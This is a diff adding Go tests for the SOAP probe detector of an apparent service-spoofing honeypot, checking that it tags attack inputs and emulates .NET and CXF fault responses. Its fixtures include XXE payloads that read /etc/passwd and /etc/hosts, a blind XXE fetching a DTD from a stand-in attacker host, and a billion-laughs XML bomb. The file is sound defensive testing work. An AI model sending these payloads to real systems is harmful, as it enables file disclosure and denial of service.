@@ -0,0 +1,124 @@
+package soap
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/davidthuman/service-spoof/internal/config"
+)
+
+const envelope = `<?xml version="1.0" encoding="utf-8"?>
+<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
+  <soap:Body><GetUser xmlns="http://tempuri.org/"><id>1</id></GetUser></soap:Body>
+</soap:Envelope>`
+
+func TestInspect(t *testing.T) {
+	cases := []struct {
+		name     string
+		body     string
+		tags     []string
+		external []string
+	}{
+		{"envelope", envelope, nil, nil},
+		{"file", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
+			[]string{TagXXE}, []string{"file:///etc/passwd"}},
+		{"blind", `<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.test/x.dtd"> %dtd;]><foo/>`,
+			[]string{TagXXE}, []string{"http://attacker.test/x.dtd"}},
+		{"public", `<!DOCTYPE foo PUBLIC "-//X//EN" "http://attacker.test/p.dtd"><foo/>`,
+			[]string{TagXXE}, []string{"http://attacker.test/p.dtd"}},
+		{"reflection", `<!DOCTYPE foo [<!ENTITY test "spoofed">]><foo>&test;</foo>`, []string{TagXXE}, nil},
+		{"xinclude", `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></foo>`,
+			[]string{TagXXE}, []string{"file:///etc/hosts"}},
+		{"doctype", `<!DOCTYPE html><html></html>`, []string{TagDTD}, nil},
+		{"bomb", `<!DOCTYPE lolz [<!ENTITY lol "lol">` +
+			`<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
+			`<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">` +
+			`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">` +
+			`<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">` +
+			`<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">` +
+			`<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]><lolz>&lol6;</lolz>`,
+			[]string{TagXXE, TagXMLBomb}, nil},
+	}
+
+	for _, tc := range cases {
+		p := Inspect([]byte(tc.body))
+		if p == nil {
+			t.Fatalf("%s: Expected a probe", tc.name)
+		}
+		if got := strings.Join(p.Tags(), ","); got != strings.Join(tc.tags, ",") {
+			t.Fatalf("%s: Expected tags %v, got %v", tc.name, tc.tags, p.Tags())
+		}
+		if got := strings.Join(p.External, ","); got != strings.Join(tc.external, ",") {
+			t.Fatalf("%s: Expected external %v, got %v", tc.name, tc.external, p.External)
+		}
+	}
+
+	p := Inspect([]byte(envelope))
+	if p.Namespace != Namespace11 || p.Operation.Local != "GetUser" || p.Err != nil {
+		t.Fatalf("Expected a SOAP 1.1 GetUser envelope, got %+v", p)
+	}
+	if Inspect([]byte(`{"id": 1}`)) != nil {
+		t.Fatalf("Expected no probe for JSON")
+	}
+	if p := Inspect([]byte("<foo>\n<bar></foo>")); p.Err == nil {
+		t.Fatalf("Expected a syntax error")
+	}
+}
+
+func TestEndpoint_Handle(t *testing.T) {
+	cases := []struct {
+		stack       string
+		body        string
+		contentType string
+		fault       string
+		responseCT  string
+	}{
+		{config.SOAPStackDotNet, envelope, "text/xml", "SOAPAction: http://tempuri.org/GetUser.", "text/xml; charset=utf-8"},
+		{config.SOAPStackDotNet, `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, "text/xml",
+			"DTD is prohibited", "text/xml; charset=utf-8"},
+		{config.SOAPStackDotNet, strings.ReplaceAll(envelope, Namespace11, Namespace12), "application/soap+xml",
+			"<soap:Value>soap:Sender</soap:Value>", "application/soap+xml; charset=utf-8"},
+		{config.SOAPStackCXF, envelope, "text/xml", "Message part {http://tempuri.org/}GetUser was not recognized.", "text/xml;charset=UTF-8"},
+		{config.SOAPStackCXF, "<foo>\n<bar></foo>", "text/xml", "[2,1]", "text/xml;charset=UTF-8"},
+	}
+
+	for _, tc := range cases {
+		e := NewEndpoint(&config.SOAPConfig{Stack: tc.stack})
+		r := httptest.NewRequest(http.MethodPost, "/Service.asmx", strings.NewReader(tc.body))
+		r.Header.Set("Content-Type", tc.contentType)
+		r.Header.Set("SOAPAction", `"http://tempuri.org/GetUser"`)
+		w := httptest.NewRecorder()
+		if !e.Handle(w, r) {
+			t.Fatalf("Expected %s to answer a POST", tc.stack)
+		}
+		if w.Code != http.StatusInternalServerError {
+			t.Fatalf("Expected status 500, got %d", w.Code)
+		}
+		if got := w.Header().Get("Content-Type"); got != tc.responseCT {
+			t.Fatalf("Expected content type %q, got %q", tc.responseCT, got)
+		}
+		if !strings.Contains(w.Body.String(), tc.fault) {
+			t.Fatalf("Expected %s fault containing %q, got %s", tc.stack, tc.fault, w.Body.String())
+		}
+	}
+
+	// Service descriptions are served from the template
+	r := httptest.NewRequest(http.MethodGet, "/Service.asmx?wsdl", nil)
+	if NewEndpoint(nil).Handle(httptest.NewRecorder(), r) {
+		t.Fatalf("Expected GET requests left to the template")
+	}
+}
+
+func FuzzInspect(f *testing.F) {
+	f.Add([]byte(envelope))
+	f.Add([]byte(`<!DOCTYPE foo [<!ENTITY % a "&#37;b;"><!ENTITY b "&a;&b;">]><foo>&b;</foo>`))
+	f.Add([]byte(`<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/></foo>`))
+
+	f.Fuzz(func(t *testing.T, body []byte) {
+		if p := Inspect(body); p != nil {
+			p.Tags()
+		}
+	})
+}